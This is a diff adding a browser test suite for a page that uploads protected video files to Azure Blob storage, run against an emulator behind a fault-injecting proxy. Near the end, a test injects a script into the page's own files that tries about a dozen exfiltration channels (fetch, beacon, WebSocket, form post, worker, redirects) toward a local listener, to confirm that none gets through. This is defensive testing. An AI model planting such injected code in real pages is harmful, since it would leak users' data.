@@ -1,0 +1,489 @@
+// The page that uploads, with a real storage behind it: Azure's own emulator, and a proxy before it that plays faults.
+
+import assert from 'node:assert/strict';
+import { createHash, randomBytes } from 'node:crypto';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { readFile } from 'node:fs/promises';
+import { createRequire } from 'node:module';
+import { createServer } from 'node:net';
+import { after, before, test } from 'node:test';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { inEachBrowser } from './browser.mjs';
+import { azurite, faulty, OLD_VERSION, sas } from './support-azurite.mjs';
+import {
+  LONG,
+  openFile,
+  protect,
+  fillForm,
+  protectedSample,
+  SAMPLE,
+  siteCopy,
+  triedAgain,
+  waitPlan,
+  withoutPicker,
+  workFolder,
+} from './support.mjs';
+
+const MIB = 2 ** 20;
+const folder = workFolder();
+const small = folder.path('small film.mp4');
+const large = folder.path('film.mp4');
+
+let storage;
+let front;
+let axe = '';
+before(async () => {
+  axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
+  storage = await azurite();
+  front = await faulty(storage.origin);
+  await storage.container('media');
+  await storage.container('open', true);
+});
+after(async () => {
+  await front?.close();
+  await storage?.close();
+});
+
+const sum = (bytes) => createHash('sha256').update(bytes).digest('hex');
+
+/** A protected file with so many bytes behind it that it takes several blocks. */
+function padded(bytes, more) {
+  const box = Buffer.alloc(8);
+  box.writeUInt32BE(more + 8);
+  box.write('free', 4);
+  return Buffer.concat([bytes, box, randomBytes(more)]);
+}
+
+/** Both files, protected by the page's own module, once for all tests. */
+let made;
+function files(page) {
+  made ??= protectedSample(page).then((bytes) => {
+    writeFileSync(small, bytes);
+    writeFileSync(large, padded(bytes, 22 * MIB));
+  });
+  return made;
+}
+
+const address = ({ container = 'media', version, ...more } = {}) =>
+  `${front.account}/${container}?${sas({ container, ...(version ? { version } : {}), ...more })}`;
+
+/** Of which every block has 4 MiB. */
+const inBlocks = (more = {}) => address({ version: OLD_VERSION, ...more });
+
+const there = (name, container = 'media') => storage.blob(container, encodeURIComponent(name));
+
+const choose = async (page, path) => {
+  await page.setFile('#open-file', path);
+  await page.waitFor('.taken-name', { timeout: LONG });
+};
+
+const paste = async (page, text) => {
+  await page.fill('[name="address"]', text);
+  await page.waitFor('.place-facts');
+};
+
+const pressUpload = async (page) => {
+  await page.waitFor(() => !document.querySelector('#upload').disabled);
+  await page.click('#upload');
+};
+
+const done = (page) => page.waitFor('#done-url', { timeout: LONG });
+
+/** All that the page shows, and has in its fields. */
+const shown = (page) =>
+  page.evaluate(
+    () =>
+      document.documentElement.outerHTML +
+      [...document.querySelectorAll('input, textarea')].map(({ value }) => value).join(' '),
+  );
+
+const status = (page, code) => page.evaluate((wanted) => document.querySelector('.upload-step').innerText.includes(wanted), code);
+
+/** Gives each test a new page with the publish page open, and the faults taken out. */
+function publishTests(browser) {
+  return (name, body, options = {}) =>
+    test(name, options, (context) =>
+      triedAgain(browser, context, async () => {
+        front.play = () => undefined;
+        await storage.cors();
+        browser.site.beyond.add(front.origin);
+        const page = await browser.newPage();
+        try {
+          await page.goto('/publish.html');
+          await page.waitFor('#choose-file');
+          await files(page);
+          await body(page);
+          for (const url of page.requests) {
+            const { origin } = new URL(url);
+            assert.ok(origin === browser.site.origin || origin === front.origin, `The page asked for ${url}`);
+          }
+        } finally {
+          await page.close();
+        }
+      }),
+    );
+}
+
+inEachBrowser((browser) => {
+  const check = publishTests(browser);
+
+  check('a protected file arrives whole, and its address is shown without its signature', async (page) => {
+    await choose(page, small);
+    assert.match(await page.text('.taken'), /protected[\s\S]*H\.264/);
+    await paste(page, address({ container: 'open' }));
+    assert.match(await page.text('.place-facts'), /read, create, write/);
+    const name = `${browser.name} film ü.mp4`;
+    await page.fill('[name="name"]', name);
+    assert.equal(await page.text('#connected'), 'Connects to nothing yet');
+    await pressUpload(page);
+    await done(page);
+    assert.equal(await page.text('#connected'), `Connects to ${new URL(front.origin).host} only`);
+    const url = await page.text('#done-url');
+    assert.equal(url, `${front.account}/open/${encodeURIComponent(name)}`);
+    const said = await page.text('.done-lines');
+    assert.match(said, /Every byte was read back/);
+    assert.match(said, /Players can seek: the storage answers with parts \(206\) and says Accept-Ranges/);
+    const found = await there(name, 'open');
+    assert.equal(sum(found.bytes), sum(readFileSync(small)));
+    assert.equal(found.headers['content-type'], 'video/mp4');
+    const signature = decodeURIComponent(/sig=([^&]+)/.exec(address())[1]);
+    const all = await shown(page);
+    assert.ok(!all.includes('sig=') && !all.includes(signature.slice(0, 12)));
+    const kept = await page.evaluate(async () => [
+      JSON.stringify({ ...localStorage, ...sessionStorage }),
+      location.href,
+      JSON.stringify(await indexedDB.databases()),
+      JSON.stringify(await caches.keys()),
+    ]);
+    assert.deepEqual(kept, ['{}', `${browser.site.origin}/publish.html`, '[]', '[]']);
+    // Nobody else is served by the service worker of the frame.
+    await page.goto('/');
+    await page.waitFor('#open-button');
+    const controlled = await page.evaluate(async () => ({
+      by: navigator.serviceWorker.controller,
+      scopes: (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => new URL(scope).pathname),
+    }));
+    assert.equal(controlled.by, null);
+    assert.deepEqual(controlled.scopes, ['/publish/to/']);
+  });
+
+  check('clear files, and files that are protected in part, are refused', async (page) => {
+    await page.setFile('#open-file', SAMPLE);
+    await page.waitFor('#file-step .notice');
+    assert.match(await page.text('#file-step .notice'), /not protected.*main page/s);
+    const half = folder.path('half.mp4');
+    writeFileSync(half, await protectedSample(page, { tracks: [1] }));
+    await page.setFile('#open-file', half);
+    await page.waitFor(() => /half\.mp4/.test(document.querySelector('#file-step .notice')?.innerText));
+    assert.match(await page.text('#file-step .notice'), /Not all of half\.mp4 is protected/);
+    const text = folder.path('notes.mp4');
+    writeFileSync(text, 'no media at all, but long enough to be looked at');
+    await page.setFile('#open-file', text);
+    await page.waitFor(() => /notes\.mp4 was not opened/.test(document.querySelector('#file-step .notice')?.innerText));
+    await paste(page, address());
+    assert.equal(await page.evaluate(() => document.querySelector('#upload').disabled), true);
+  });
+
+  check('closed in the middle, it goes on where it was, and nothing is visible before', async (page) => {
+    const name = `${browser.name} resumed.mp4`;
+    front.play = ({ method, comp }) => (method === 'PUT' && comp === 'block' ? { wait: 400 } : undefined);
+    const begin = async () => {
+      await choose(page, large);
+      await paste(page, inBlocks());
+      await page.fill('[name="name"]', name);
+      await pressUpload(page);
+    };
+    await begin();
+    await page.waitFor(() => document.querySelector('#progress').value > 0.1, { timeout: LONG });
+    // As if it had crashed: nothing of the page is asked.
+    await page.evaluate(() => void window.addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true));
+    await page.goto('/publish.html');
+    await page.waitFor('#choose-file');
+    assert.equal(await there(name), null);
+    const waiting = await storage.waiting('media', encodeURIComponent(name));
+    assert.ok(waiting.filter((id) => !id.endsWith('probe')).length > 0);
+    front.play = () => undefined;
+    const before = front.requests.length;
+    await begin();
+    await done(page);
+    assert.match(await page.text('.upload-lines'), /parts have arrived before/);
+    const blocks = front.requests.slice(before).filter(({ method, comp }) => method === 'PUT' && comp === 'block');
+    assert.ok(blocks.length < 7, `${blocks.length}`);
+    assert.equal(sum((await there(name)).bytes), sum(readFileSync(large)));
+  });
+
+  check('where no rule lets the page in, the rule is printed', async (page) => {
+    await storage.cors({ methods: '' });
+    await choose(page, small);
+    await paste(page, address());
+    await pressUpload(page);
+    await page.waitFor('.rules', { timeout: LONG });
+    const said = await page.text('.upload-outcome');
+    assert.match(said, /Allowed methods: GET, HEAD, PUT, OPTIONS/);
+    assert.ok(said.includes(`Allowed origins: ${browser.site.origin}`));
+    assert.match(said, /az storage cors add --account-name devstoreaccount1/);
+    // A rule for reading alone is told from none.
+    await storage.cors({ methods: 'GET', headers: '' });
+    await pressUpload(page);
+    await page.waitFor(() => /A rule is missing there/.test(document.querySelector('.rules')?.innerText), { timeout: LONG });
+    await storage.cors();
+    // Browsers keep what a rule said for some seconds.
+    await sleep(6000);
+    await pressUpload(page);
+    await done(page);
+  });
+
+  check('a SAS that ends on the way is renewed, and what has arrived is not sent again', async (page) => {
+    const name = `${browser.name} renewed.mp4`;
+    let blocks = 0;
+    front.play = ({ method, comp }) =>
+      method === 'PUT' && comp === 'block' && ++blocks > 4
+        ? { status: 403, code: 'AuthenticationFailed', text: 'Signature not valid in the specified time frame' }
+        : undefined;
+    await choose(page, large);
+    await paste(page, inBlocks());
+    await page.fill('[name="name"]', name);
+    await pressUpload(page);
+    await page.waitFor('#renew', { timeout: LONG });
+    assert.match(await page.text('.upload-outcome'), /signature of the address has expired/);
+    assert.equal(await there(name), null);
+    front.play = () => undefined;
+    const before = front.requests.length;
+    await page.click('#renew');
+    await paste(page, inBlocks());
+    assert.equal(await page.evaluate(() => document.querySelector('[name="name"]').value), name);
+    await pressUpload(page);
+    await done(page);
+    const again = front.requests.slice(before).filter(({ method, comp }) => method === 'PUT' && comp === 'block');
+    assert.ok(again.length < 6, `${again.length}`);
+    assert.equal(sum((await there(name)).bytes), sum(readFileSync(large)));
+  });
+
+  check('a name that is taken, a storage that is busy, and being cancelled', async (page) => {
+    const name = `${browser.name} taken.mp4`;
+    await storage.put('media', encodeURIComponent(name), 'there before');
+    let busy = 0;
+    front.play = ({ method, comp }) => {
+      if (method !== 'PUT' || comp !== 'block') return undefined;
+      busy += 1;
+      if (busy === 2) return { status: 503, code: 'ServerBusy' };
+      return busy === 4 ? 'cut' : { wait: 300 };
+    };
+    await choose(page, large);
+    await paste(page, inBlocks());
+    await page.fill('[name="name"]', name);
+    await pressUpload(page);
+    await page.click('#keep');
+    await page.waitFor('.upload-outcome .notice');
+    assert.equal(String((await there(name)).bytes), 'there before');
+    await pressUpload(page);
+    await page.click('#replace');
+    await page.waitFor(() => document.querySelector('#progress').value > 0.1, { timeout: LONG });
+    await page.press('Escape');
+    await page.waitFor('.start-note.cancelled');
+    assert.match(await page.text('.start-note'), /Nothing is visible there.*press Upload to go on/);
+    assert.equal(String((await there(name)).bytes), 'there before');
+    front.play = () => undefined;
+    await pressUpload(page);
+    await done(page);
+    assert.equal(sum((await there(name)).bytes), sum(readFileSync(large)));
+  });
+
+  check('two tabs do not upload to one name', async (page) => {
+    front.play = ({ method, comp }) => (method === 'PUT' && comp === 'block' ? { wait: 1500 } : undefined);
+    await choose(page, small);
+    await paste(page, address());
+    await page.fill('[name="name"]', `${browser.name} twice.mp4`);
+    // What the other tab holds.
+    const where = `${front.account}/media/${encodeURIComponent(`${browser.name} twice.mp4`)}`;
+    await page.evaluate(
+      (name) =>
+        new Promise((held) => {
+          navigator.locks.request(name, () => new Promise((end) => void (window.letGo = end, held(null))));
+        }),
+      `boxlock-publish ${where}`,
+    );
+    await pressUpload(page);
+    await page.waitFor('.upload-outcome .notice');
+    assert.match(await page.text('.upload-outcome'), /Another tab of this browser is uploading to this very name/);
+    await page.evaluate(() => window.letGo());
+    await pressUpload(page);
+    await done(page);
+    assert.ok(await status(page, 'It is there, whole.'));
+  });
+
+  check('a result goes on to the page by its name in storage, and is there when that is loaded again', async (page) => {
+    await page.goto('/');
+    await page.waitFor('#open-button');
+    await withoutPicker(page);
+    await openFile(page, SAMPLE);
+    await fillForm(page);
+    await waitPlan(page);
+    await protect(page);
+    const link = await page.evaluate(() => {
+      const { href, target } = document.querySelector('#publish');
+      return { href, target };
+    });
+    assert.equal(link.target, '_blank');
+    assert.match(link.href, /\/publish\.html#stored=[\da-f]{32}\.mp4&name=sample\.mp4$/);
+    // In a frame, as the page that made it must stay; with the address as a new tab has it.
+    const size = await page.evaluate(async (href) => {
+      const frame = document.createElement('iframe');
+      frame.src = href;
+      const seen = async () => {
+        for (;;) {
+          const name = frame.contentDocument?.querySelector('.taken-name');
+          if (name) return `${name.textContent}: ${frame.contentDocument.querySelector('.taken .quiet').textContent}`;
+          await new Promise((resolve) => void setTimeout(resolve, 50));
+        }
+      };
+      document.body.append(frame);
+      const first = await seen();
+      await new Promise((resolve) => {
+        frame.addEventListener('load', resolve, { once: true });
+        frame.contentWindow.location.reload();
+      });
+      return [first, await seen()];
+    }, link.href);
+    assert.equal(size[0], size[1]);
+    assert.match(size[0], /^sample\.mp4: \d+ kB/);
+    await page.goto('/publish.html#stored=0123456789abcdef0123456789abcdef.mp4&name=gone.mp4');
+    await page.goto('about:blank');
+    await page.goto('/publish.html#stored=0123456789abcdef0123456789abcdef.mp4&name=gone.mp4');
+    await page.waitFor('#file-step .notice');
+    assert.match(await page.text('#file-step .notice'), /gone\.mp4 was not found/);
+  });
+
+  check('without a mouse, and for people who listen, every state of the page is usable', async (page) => {
+    const audit = async (state) => {
+      await page.evaluate(axe);
+      const violations = await page.evaluate(async () => {
+        const options = { rules: { 'color-contrast': { enabled: true } } };
+        const { violations: found } = await window.axe.run(document, options);
+        return found.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' | ')}`);
+      });
+      assert.deepEqual(violations, [], state);
+      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
+      assert.ok(wide <= 0, `${state} is ${wide} px too wide`);
+    };
+    await page.setViewport(390, 844);
+    await audit('empty');
+    await choose(page, small);
+    await page.fill('[name="address"]', 'https://acc.blob.core.windows.net/media');
+    await page.waitFor('[name="address"][aria-invalid="true"]');
+    await audit('an address that is refused');
+    await storage.cors({ methods: '' });
+    await paste(page, address({ container: 'open' }));
+    await audit('ready');
+    await pressUpload(page);
+    await page.waitFor('.rules', { timeout: LONG });
+    await audit('the rule');
+    await storage.cors();
+    await sleep(6000);
+    await page.evaluate(() => document.querySelector('#upload').focus());
+    await page.press('Enter');
+    await done(page);
+    await page.evaluate(() => {
+      for (const each of document.querySelectorAll('details')) each.open = true;
+    });
+    await audit('done, with scripts unfolded');
+    await page.setViewport(1280, 900);
+    await audit('wide');
+  });
+});
+
+/** Everything that a script in one of these contexts might try, to a place that must hear of nothing. */
+const attempts = (to) => `
+;(() => {
+  const tries = [
+    () => fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => {}),
+    () => { const x = new XMLHttpRequest(); x.open('POST', '${to}/xhr'); x.send('bytes'); },
+    () => navigator.sendBeacon('${to}/beacon', 'bytes'),
+    () => new WebSocket('${to.replace('http', 'ws')}/socket'),
+    () => new EventSource('${to}/events'),
+    () => importScripts('${to}/import.js'),
+    () => caches.open('x').then((cache) => cache.add('${to}/cache')).catch(() => {}),
+    () => { new Image().src = '${to}/image.png'; },
+    () => document.body.append(Object.assign(document.createElement('iframe'), { src: '${to}/frame' })),
+    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to}/style' })),
+    () => {
+      const form = Object.assign(document.createElement('form'), { action: '${to}/form', method: 'post' });
+      document.body.append(form);
+      form.submit();
+    },
+    () => new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker', { mode: 'no-cors' })"]))),
+    ...(self.parent && self.parent !== self
+      ? [() => void (location.href = '${to}/location'), () => void (top.location.href = '${to}/top'), () => window.open('${to}/open')]
+      : []),
+  ];
+  for (const attempt of tries) try { attempt(); } catch {}
+})();
+`;
+
+/** A place outside that counts what comes, whatever it says. */
+async function outside() {
+  const arrived = [];
+  const server = createServer((socket) => {
+    socket.on('error', () => {});
+    socket.once('data', (data) => arrived.push(data.toString('latin1').split('\r\n')[0]));
+    setTimeout(() => socket.destroy(), 300);
+  });
+  await new Promise((resolve) => void server.listen(0, '127.0.0.1', resolve));
+  return { origin: `http://127.0.0.1:${server.address().port}`, arrived, close: () => server.close() };
+}
+
+const PARTS = ['publish/page.js', 'publish/courier.js', 'publish/publish-worker.js'];
+const guarded = siteCopy();
+const clean = Object.fromEntries(PARTS.map((part) => [part, readFileSync(guarded.path(part), 'utf8')]));
+
+inEachBrowser(
+  (browser) => {
+    /** Uploads with a script in each context that tries to reach another place, and gives what arrived there. */
+    const leak = async (where, parts) => {
+      const place = await outside();
+      for (const part of PARTS) {
+        const text = parts.includes(part) ? attempts(`${place.origin}/${part.split('/')[1]}`) : '';
+        writeFileSync(guarded.path(part), where === 'first' ? text + clean[part] : clean[part] + text);
+      }
+      front.play = () => undefined;
+      await storage.cors();
+      browser.site.beyond.add(front.origin);
+      const page = await browser.newPage();
+      try {
+        await page.goto('/publish.html');
+        await page.waitFor('#choose-file');
+        await files(page);
+        await choose(page, small);
+        await paste(page, address());
+        await page.fill('[name="name"]', `${browser.name} guarded.mp4`);
+        await pressUpload(page);
+        // A script that broke what it came into may have ended the upload too.
+        await page.waitFor(() => document.querySelector('#done-url') || document.querySelector('.upload-outcome .notice'), {
+          timeout: LONG,
+        });
+        const finished = await page.evaluate(() => Boolean(document.querySelector('#done-url')));
+        await sleep(1500);
+        const host = new URL(place.origin).host;
+        const atProxy = browser.site.requests.filter((url) => new URL(url).host === host);
+        return { arrived: [...place.arrived, ...atProxy], finished };
+      } finally {
+        await page.close();
+        place.close();
+      }
+    };
+
+    test('nothing that the page, its frame or its service worker try arrives anywhere but at the address given', (context) =>
+      triedAgain(browser, context, async () => {
+        const { arrived, finished } = await leak('last', PARTS);
+        assert.deepEqual(arrived, []);
+        assert.ok(finished);
+      }));
+
+    test('a service worker with its ways out would let it through: the test above sees it', (context) =>
+      triedAgain(browser, context, async () => {
+        const { arrived } = await leak('first', ['publish/publish-worker.js']);
+        assert.ok(arrived.some((line) => /publish-worker\.js\/fetch/.test(line)), `${arrived}`);
+      }));
+  },
+  { root: guarded.root },
+);
